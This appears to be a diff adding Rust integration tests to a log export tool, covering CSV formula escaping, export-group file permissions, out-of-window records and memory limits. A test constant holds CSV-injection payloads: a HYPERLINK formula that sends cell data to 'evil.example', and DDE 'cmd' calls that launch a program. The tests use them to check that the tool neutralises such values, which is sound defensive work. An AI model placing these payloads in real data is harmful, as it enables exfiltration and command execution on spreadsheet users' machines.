@@ -10,8 +10,9 @@
 use std::collections::HashMap;
 use std::fs::{self, OpenOptions};
 use std::io::{Read, Write};
+use std::os::unix::fs::{MetadataExt, PermissionsExt};
 use std::path::{Path, PathBuf};
-use std::process::Child;
+use std::process::{Child, Stdio};
 use std::time::{Duration, Instant};
 
 use crate::safety::http_get;
@@ -114,8 +115,11 @@ impl Ex {
     }
 
     fn configure(&self, export_extra: &str) {
+        // The records here are of fixed dates: within the window whenever
+        // the tests run, unless a test sets its own.
+        let window = if export_extra.contains("max_past_hours") { "" } else { "max_past_hours = 87600\n" };
         let text = format!(
-            "state_dir = {state:?}\nlog_level = \"debug\"\n\n[[source]]\npaths = [{glob:?}]\nformat = \"le-json\"\nrescan_interval_ms = 200\n\n[status]\nlisten = \"127.0.0.1:0\"\n\n[export]\ndir = \"export\"\nslice_minutes = 1\nfsync_interval_ms = 20\n{export_extra}\n",
+            "state_dir = {state:?}\nlog_level = \"debug\"\n\n[[source]]\npaths = [{glob:?}]\nformat = \"le-json\"\nrescan_interval_ms = 200\n\n[status]\nlisten = \"127.0.0.1:0\"\n\n[export]\ndir = \"export\"\nslice_minutes = 1\nfsync_interval_ms = 20\n{window}{export_extra}\n",
             state = self.state.to_string_lossy(),
             glob = self.dir.path().join("logs/access*.log").to_string_lossy(),
         );
@@ -552,4 +556,408 @@ fn the_export_command_builds_the_same_slices_offline_from_raw_logs_or_the_archiv
     let bad = export(&raw, &dir.path().join("x"), &["--slice-minutes", "45"]);
     assert_eq!(bad.status.code(), Some(64));
     assert!(String::from_utf8_lossy(&bad.stderr).contains("--slice-minutes"));
+}
+
+/// Values an API caller controls that a spreadsheet would run as a
+/// formula (OWASP's CSV injection payloads), by column index in the
+/// export, with a numeric column's negative number and an absent value
+/// that must stay as they are.
+const FORMULAS: [(usize, &str, &str); 5] = [
+    (9, "user_agent", "=HYPERLINK(\"http://evil.example/?\"&A1,\"help\")"),
+    (8, "referrer", "+1+cmd|' /C calc'!A0"),
+    (4, "uri", "-2+3+cmd|' /C calc'!A0?q=@SUM(1)"),
+    (0, "request_host_name", "@SUM(1+1)*cmd|' /C calc'!A0"),
+    (12, "api_key", "\t=1+1"),
+];
+
+/// A raw line carrying the payloads of [`FORMULAS`] (and a carriage
+/// return one), a negative `quota_value` and an absent `http_version`.
+fn formula_line(uuid: &str, iso: &str) -> String {
+    let mut v = serde_json::json!({
+        "request_uuid": uuid,
+        "request_time": iso,
+        "method": "GET",
+        "status": "200",
+        "bytes": "113",
+        "exec_time": "0.012",
+        "quota_value": "-1",
+        "http_version": "-",
+        "oauth_access_token": "\r=2+2",
+    });
+    for (_, key, payload) in FORMULAS {
+        v[key] = payload.into();
+    }
+    format!("{v}\n")
+}
+
+/// True when a spreadsheet would run `cell` as a formula.
+fn runs_as_formula(cell: &str) -> bool {
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell != "-" && cell.parse::<f64>().is_err()
+}
+
+/// Checks the rows of an export file: with `neutralised`, every payload is
+/// its value behind a `'` and no cell would run; without, the values are
+/// as they came.
+fn check_formula_rows(path: &Path, neutralised: bool) -> usize {
+    let rows = read_csv(path);
+    // Quoted on disk: a neutralised cell is written `"'=..."`.
+    let mut raw = String::new();
+    flate2::read::MultiGzDecoder::new(fs::File::open(path).unwrap()).read_to_string(&mut raw).unwrap();
+    for row in &rows[1..] {
+        for (i, key, payload) in FORMULAS {
+            let want = if neutralised { format!("'{payload}") } else { payload.to_string() };
+            assert_eq!(row[i], want, "{key} in {row:?}");
+        }
+        assert_eq!(row[22], if neutralised { "'\r=2+2" } else { "\r=2+2" }, "oauth_access_token (a carriage return)");
+        assert_eq!(row[24], "-1", "a negative number in a numeric column stays a number");
+        assert_eq!(row[5], "-", "`-` alone is the schema's absent value");
+        assert_eq!(row[6], "113");
+        let running: Vec<&String> = row.iter().filter(|c| runs_as_formula(c)).collect();
+        if neutralised {
+            assert!(running.is_empty(), "cells a spreadsheet would run: {running:?}");
+        } else {
+            assert_eq!(running.len(), FORMULAS.len() + 1, "{running:?}");
+        }
+    }
+    if neutralised {
+        assert!(raw.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"help\"\")\""), "quoted, quotes doubled: {raw}");
+    }
+    rows.len() - 1
+}
+
+#[test]
+fn spreadsheet_formulas_in_caller_text_are_neutralised_live_and_offline() {
+    // Live: the sink.
+    let mut ex = Ex::new("close_after_secs = 1\n");
+    ex.start();
+    let text: String = (0..5).map(|i| formula_line(&format!("f-{i}"), "2026-11-29T10:00:05Z")).collect();
+    let mut f = OpenOptions::new().create(true).append(true).open(ex.dir.path().join("logs/access.log")).unwrap();
+    f.write_all(text.as_bytes()).unwrap();
+    let name = "calllog-2026-11-29T10-00Z.csv.gz";
+    ex.wait_published(&[name]);
+    assert_eq!(check_formula_rows(&ex.export.join(name), true), 5);
+    ex.stop();
+
+    // Offline: the `export` command, by default and with the raw values
+    // asked for.
+    let input = ex.dir.path().join("logs/access.log");
+    for (flags, neutralised) in [(&[][..], true), (&["--no-escape-formulas"][..], false)] {
+        let to = ex.dir.path().join(format!("offline-{neutralised}"));
+        let mut c = support::cmd();
+        c.args(["export", "--from", "2026-11-29T10:00:00Z", "--to", "2026-11-29T11:00:00Z", "--dir"]).arg(&to).args(flags).arg(&input);
+        let out = c.output().unwrap();
+        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+        assert_eq!(check_formula_rows(&to.join(name), neutralised), 5, "{flags:?}");
+    }
+}
+
+/// A system group and a user in it, created for one test and removed when
+/// dropped (the test runs as root).
+struct Account {
+    user: String,
+    group: String,
+}
+
+impl Account {
+    /// `groupadd` and `useradd` (no home, no login shell, in the group).
+    fn create(tag: &str) -> Account {
+        let id = std::process::id() % 100_000;
+        let a = Account { user: format!("cb{tag}u{id}"), group: format!("cb{tag}g{id}") };
+        let ok = |c: &mut std::process::Command| assert!(c.status().unwrap().success(), "{c:?}");
+        ok(std::process::Command::new("groupadd").args(["--system", &a.group]));
+        ok(std::process::Command::new("useradd").args(["--system", "-M", "-N", "-s", "/usr/sbin/nologin", "-G", &a.group, &a.user]));
+        a
+    }
+
+    fn gid(&self) -> u32 {
+        let out = std::process::Command::new("getent").args(["group", &self.group]).output().unwrap();
+        String::from_utf8_lossy(&out.stdout).split(':').nth(2).unwrap().trim().parse().unwrap()
+    }
+
+    /// Runs `args` as the user, with its groups (`with_groups`) or none.
+    fn run(&self, with_groups: bool, args: &[&str]) -> std::process::Output {
+        let groups = if with_groups { "--init-groups" } else { "--clear-groups" };
+        let mut c = std::process::Command::new("setpriv");
+        c.args([&format!("--reuid={}", self.user), "--regid=65534", groups, "--"]).args(args);
+        c.output().unwrap()
+    }
+}
+
+impl Drop for Account {
+    fn drop(&mut self) {
+        let _ = std::process::Command::new("userdel").arg(&self.user).status();
+        let _ = std::process::Command::new("groupdel").arg(&self.group).status();
+    }
+}
+
+/// `calllog-bridge ARGS` as the service would run it: an unprivileged user
+/// with no supplementary group, under the unit's `UMask=0077`.
+fn as_service(args: &[&str]) -> std::process::Command {
+    let mut c = std::process::Command::new("sh");
+    c.args(["-c", "umask 077; exec \"$0\" \"$@\""]).arg(support::bin()).args(args).env_remove("RUST_LOG");
+    support::unprivileged(&mut c);
+    c
+}
+
+#[test]
+fn an_account_in_the_export_group_reads_published_slices_and_others_do_not() {
+    if !support::is_root() {
+        eprintln!("SKIPPED: creating a user and a group needs root");
+        return;
+    }
+    let analyst = Account::create("exp");
+    let mut ex = Ex::new(&format!("close_after_secs = 1\nfile_mode = \"0640\"\ngroup = \"{}\"\n", analyst.group));
+    fs::create_dir_all(&ex.state).unwrap();
+    support::give_to_unprivileged(&ex.state);
+    // The export directory as an earlier run under the unit left it: the
+    // service's own, 0700.
+    fs::create_dir_all(&ex.export).unwrap();
+    support::give_to_unprivileged(&ex.export);
+    fs::set_permissions(&ex.export, fs::Permissions::from_mode(0o700)).unwrap();
+    let config = ex.config.to_str().unwrap().to_string();
+
+    // The service cannot give its files the group (it is not a member):
+    // refused before anything starts, naming the key and the fix.
+    for cmd in ["check-config", "run"] {
+        let out = support::run_for(&mut as_service(&[cmd, "--config", &config]), DEADLINE).expect("exits");
+        let err = String::from_utf8_lossy(&out.stderr);
+        assert_eq!(out.status.code(), Some(64), "{cmd}: {err}");
+        assert!(err.contains("export.group") && err.contains("chmod 2750"), "{cmd}: {err}");
+    }
+
+    // The operator's step: the directory set-group-ID with the group.
+    std::os::unix::fs::chown(&ex.export, None, Some(analyst.gid())).unwrap();
+    fs::set_permissions(&ex.export, fs::Permissions::from_mode(0o2750)).unwrap();
+    let log = fs::OpenOptions::new().create(true).append(true).open(&ex.log).unwrap();
+    let child = as_service(&["run", "--config", &config]).stdin(Stdio::null()).stdout(Stdio::null()).stderr(log).spawn().unwrap();
+    ex.child = Some(child);
+    support::poll_until(DEADLINE, "the bridge to start", || {
+        if let Some(Ok(Some(status))) = ex.child.as_mut().map(|c| c.try_wait()) {
+            panic!("the bridge exited with {status}:\n{}", ex.log_text());
+        }
+        ex.log_text().contains("bridge running").then_some(())
+    });
+    ex.append(&batch("g", 20, "2026-11-29T10:00:05Z"));
+    let name = "calllog-2026-11-29T10-00Z.csv.gz";
+    ex.wait_published(&[name]);
+    let file = ex.export.join(name);
+    let meta = fs::metadata(&file).unwrap();
+    assert_eq!(meta.mode() & 0o7777, 0o640, "file_mode, whatever the umask");
+    assert_eq!(meta.gid(), analyst.gid(), "the export group");
+    assert_eq!(meta.uid(), support::UNPRIVILEGED_UID);
+
+    // The analyst lists the directory and reads the slice.
+    let path = file.to_str().unwrap();
+    let listed = analyst.run(true, &["ls", ex.export.to_str().unwrap()]);
+    assert!(listed.status.success(), "{}", String::from_utf8_lossy(&listed.stderr));
+    assert!(String::from_utf8_lossy(&listed.stdout).contains(name));
+    let read = analyst.run(true, &["cat", path]);
+    assert!(read.status.success(), "{}", String::from_utf8_lossy(&read.stderr));
+    assert_eq!(read.stdout, fs::read(&file).unwrap());
+    // The same account without the group: neither.
+    let denied = analyst.run(false, &["cat", path]);
+    assert!(!denied.status.success(), "read without the group");
+    assert!(String::from_utf8_lossy(&denied.stderr).contains("Permission denied"), "{}", String::from_utf8_lossy(&denied.stderr));
+    ex.stop();
+
+    // No group set: a directory the bridge creates under UMask=0077 (in
+    // its state directory, as the default `dir` is) is still 0750 and its
+    // files 0640 (the service's group reads).
+    let fresh = ex.state.join("export");
+    let text =
+        fs::read_to_string(&ex.config).unwrap().replace("dir = \"export\"", "dir = \"state/export\"").replace("group = ", "# group = ");
+    fs::write(&ex.config, text).unwrap();
+    let log = fs::OpenOptions::new().create(true).append(true).open(&ex.log).unwrap();
+    let before = ex.log_text().matches("bridge running").count();
+    ex.child = Some(as_service(&["run", "--config", &config]).stdin(Stdio::null()).stdout(Stdio::null()).stderr(log).spawn().unwrap());
+    support::poll_until(DEADLINE, "the bridge to start again", || {
+        if let Some(Ok(Some(status))) = ex.child.as_mut().map(|c| c.try_wait()) {
+            panic!("the bridge exited with {status}:\n{}", ex.log_text());
+        }
+        (ex.log_text().matches("bridge running").count() > before).then_some(())
+    });
+    ex.append(&batch("h", 5, "2026-11-29T10:01:05Z"));
+    let second = fresh.join("calllog-2026-11-29T10-01Z.csv.gz");
+    support::poll_until(DEADLINE, "the slice published", || second.exists().then_some(()));
+    assert_eq!(fs::metadata(&fresh).unwrap().mode() & 0o7777, 0o750, "the directory: the group may list it");
+    assert_eq!(fs::metadata(&second).unwrap().mode() & 0o7777, 0o640);
+    ex.stop();
+}
+
+/// The rows of a file still being written (a `.partial`): everything
+/// synced decodes, the unfinished gzip stream's end does not.
+fn read_partial_csv(path: &Path) -> Vec<Vec<String>> {
+    let mut bytes = Vec::new();
+    let _ = flate2::read::MultiGzDecoder::new(fs::File::open(path).unwrap()).read_to_end(&mut bytes);
+    let text = String::from_utf8(bytes).unwrap();
+    let end = text.rfind("\r\n").map_or(0, |i| i + 2);
+    parse_csv(&text[..end])
+}
+
+#[test]
+fn records_far_in_the_past_or_future_go_to_one_counted_out_of_window_file() {
+    // The default window: a week back, an hour ahead.
+    let mut ex = Ex::new("close_after_secs = 1\nmax_past_hours = 168\n");
+    ex.start();
+    // 3,000 records with clocks from 1970 to 9999, each in a slice of its
+    // own, and 10 of now.
+    let far: Vec<(String, String)> = (0..3000)
+        .map(|i| {
+            let year = if i % 2 == 0 { 1970 + i / 60 } else { 2100 + i * 2 };
+            (format!("far-{i:04}"), format!("{year:04}-06-15T{:02}:{:02}:07Z", i % 24, i % 60))
+        })
+        .collect();
+    let now = calllog_bridge::time::now_ms();
+    let recent = batch("now", 10, &calllog_bridge::time::format_iso_seconds(now - 30_000));
+    ex.append(&[far.clone(), recent].concat());
+    support::poll_until(DEADLINE, "every record written", || {
+        let e = ex.status()["export"].clone();
+        (e["out_of_window"] == 3000 && e["records"] == 10).then_some(())
+    });
+    let (code, metrics) = http_get(&ex.status_addr(), "/metrics");
+    assert_eq!(code, 200);
+    assert!(metrics.contains("calllog_bridge_export_out_of_window_total 3000"), "{metrics}");
+    // One out-of-window file, not a file per record.
+    let names: Vec<String> = fs::read_dir(&ex.export).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
+    let outside: Vec<&String> = names.iter().filter(|n| n.contains("out-of-window-")).collect();
+    assert_eq!(outside.len(), 1, "{names:?}");
+    assert!(names.len() <= 4, "the slice of now (maybe two), the out-of-window file: {names:?}");
+    support::poll_until(DEADLINE, "the log line", || ex.log_text().contains("out-of-window file").then_some(()));
+    ex.stop();
+    // Every record is there, with its own request_time.
+    let rows = read_partial_csv(&ex.export.join(outside[0]));
+    assert_eq!(rows[0], COLUMNS);
+    let got: Vec<(String, String)> = rows[1..].iter().map(|r| (r[2].clone(), r[11].clone())).collect();
+    assert_eq!(got, far, "in arrival order, request_time as it was");
+}
+
+/// The peak memory of a running process (VmHWM less its file-backed
+/// pages), or `None` once it is gone.
+fn peak_memory(pid: u32) -> Option<u64> {
+    let text = fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
+    let kb = |field: &str| -> Option<u64> { text.lines().find(|l| l.starts_with(field))?.split_whitespace().nth(1)?.parse().ok() };
+    Some(kb("VmHWM:")?.saturating_sub(kb("RssFile:")?) * 1024)
+}
+
+#[test]
+fn the_export_command_reads_pretty_printed_ecls_as_parse_does_and_bounds_long_lines() {
+    let dir = tempfile::tempdir().unwrap();
+    let captured = fs::read(support::sample("ecls-message.json")).unwrap();
+    let msg: serde_json::Value = serde_json::from_slice(&captured).unwrap();
+    let with = |uuid: &str, ua: &str| {
+        let mut r = msg["data"][0].clone();
+        r["request_uuid"] = uuid.into();
+        r["user_agent"] = ua.into();
+        r
+    };
+    // The capture as it is (pretty-printed), a pretty-printed message of
+    // two, one on one line, a line longer than --max-line-bytes, and a
+    // pretty-printed message after it.
+    let mut text = String::from_utf8(captured.clone()).unwrap();
+    if !text.ends_with('\n') {
+        text.push('\n');
+    }
+    let pair = serde_json::json!({ "data": [with("pretty-a", "ua, \"a\""), with("pretty-b", "ua\nb")] });
+    text += &format!("{}\n", serde_json::to_string_pretty(&pair).unwrap());
+    text += &format!("{}\n", serde_json::json!({ "data": [with("one-line", "one")] }));
+    text += &format!("{}\n", serde_json::json!({ "data": [with("too-long", &"x".repeat(10_000))] }));
+    text += &format!("{}\n", serde_json::to_string_pretty(&serde_json::json!({ "data": [with("after", "after")] })).unwrap());
+    let input = dir.path().join("capture.json");
+    fs::write(&input, &text).unwrap();
+    let want = ["132da36d-37b7-41e4-9d03-5e9f900f13c4", "pretty-a", "pretty-b", "one-line", "after"];
+
+    // `parse` (the ecls shape: every value as its text).
+    let rej_parse = dir.path().join("parse-rejects.ndjson");
+    let p = support::run(&[
+        "parse",
+        "--format",
+        "ecls",
+        "--output",
+        "ecls",
+        "--max-line-bytes",
+        "4096",
+        "--rejects",
+        rej_parse.to_str().unwrap(),
+        input.to_str().unwrap(),
+    ]);
+    assert!(p.status.success(), "{}", String::from_utf8_lossy(&p.stderr));
+    let parsed: Vec<serde_json::Value> = String::from_utf8_lossy(&p.stdout)
+        .lines()
+        .flat_map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap()["data"].as_array().unwrap().clone())
+        .collect();
+    assert_eq!(parsed.iter().map(|r| r["request_uuid"].as_str().unwrap()).collect::<Vec<_>>(), want);
+
+    // `export`, all 39 columns, plain CSV, raw values (compared as they are).
+    let out = dir.path().join("export");
+    let rej_export = dir.path().join("export-rejects.ndjson");
+    let mut c = support::cmd();
+    c.args(["export", "--from", "2019-04-19T00:00:00Z", "--to", "2019-04-20T00:00:00Z", "--format", "ecls", "--max-line-bytes", "4096"])
+        .args(["--include-org", "--no-gzip", "--no-escape-formulas", "--rejects"])
+        .arg(&rej_export)
+        .arg("--dir")
+        .arg(&out)
+        .arg(&input);
+    let e = c.output().unwrap();
+    let err = String::from_utf8_lossy(&e.stderr);
+    assert!(e.status.success(), "{err}");
+    assert!(err.contains("too_long 1") && err.contains("1 rejects"), "{err}");
+    let rows = parse_csv(&fs::read_to_string(out.join("calllog-2019-04-19T21-30Z.csv")).unwrap());
+    let header = rows[0].clone();
+    assert_eq!(header.len(), 39);
+    assert_eq!(rows[1..].iter().map(|r| r[2].as_str()).collect::<Vec<_>>(), want, "the same records, in order");
+    for (row, rec) in rows[1..].iter().zip(&parsed) {
+        for (col, v) in header.iter().zip(row) {
+            assert_eq!(rec[col.as_str()].as_str(), Some(v.as_str()), "{col} of {}", row[2]);
+        }
+    }
+    // The same reject, with file, line and reason.
+    let rejects = |p: &Path| -> Vec<(u64, String)> {
+        fs::read_to_string(p)
+            .unwrap()
+            .lines()
+            .map(|l| {
+                let v: serde_json::Value = serde_json::from_str(l).unwrap();
+                (v["line"].as_u64().unwrap(), v["reason"].as_str().unwrap().to_string())
+            })
+            .collect()
+    };
+    assert_eq!(rejects(&rej_export), rejects(&rej_parse));
+    assert_eq!(rejects(&rej_export).len(), 1);
+    assert_eq!(rejects(&rej_export)[0].1, "too_long");
+
+    // A 64 MiB line (gzipped, so the file is small): rejected without
+    // being held; the records around it are exported.
+    let gz = dir.path().join("long.json.gz");
+    {
+        let mut w = flate2::write::GzEncoder::new(fs::File::create(&gz).unwrap(), flate2::Compression::fast());
+        writeln!(w, "{}", serde_json::json!({ "data": [with("before-long", "b")] })).unwrap();
+        let chunk = vec![b'y'; 1 << 20];
+        for _ in 0..64 {
+            w.write_all(&chunk).unwrap();
+        }
+        writeln!(w).unwrap();
+        writeln!(w, "{}", serde_json::json!({ "data": [with("after-long", "a")] })).unwrap();
+        w.finish().unwrap();
+    }
+    let out2 = dir.path().join("export-long");
+    let mut c = support::cmd();
+    c.args(["export", "--from", "2019-04-19T00:00:00Z", "--to", "2019-04-20T00:00:00Z", "--format", "ecls", "--dir"])
+        .arg(&out2)
+        .arg(&gz)
+        .stdout(Stdio::null())
+        .stderr(Stdio::piped());
+    let mut child = c.spawn().unwrap();
+    let mut peak = 0;
+    while child.try_wait().unwrap().is_none() {
+        peak = peak.max(peak_memory(child.id()).unwrap_or(0));
+        std::thread::sleep(Duration::from_millis(5));
+    }
+    let done = child.wait_with_output().unwrap();
+    let err = String::from_utf8_lossy(&done.stderr);
+    assert!(done.status.success(), "{err}");
+    assert!(err.contains("too_long 1"), "{err}");
+    eprintln!("export: peak memory {} KiB reading a 64 MiB line", peak >> 10);
+    assert!(peak < 32 << 20, "peak memory {} MiB reading a 64 MiB line with --max-line-bytes 1 MiB", peak >> 20);
+    let rows = read_csv(&out2.join("calllog-2019-04-19T21-30Z.csv.gz"));
+    assert_eq!(rows[1..].iter().map(|r| r[2].as_str()).collect::<Vec<_>>(), ["before-long", "after-long"]);
 }
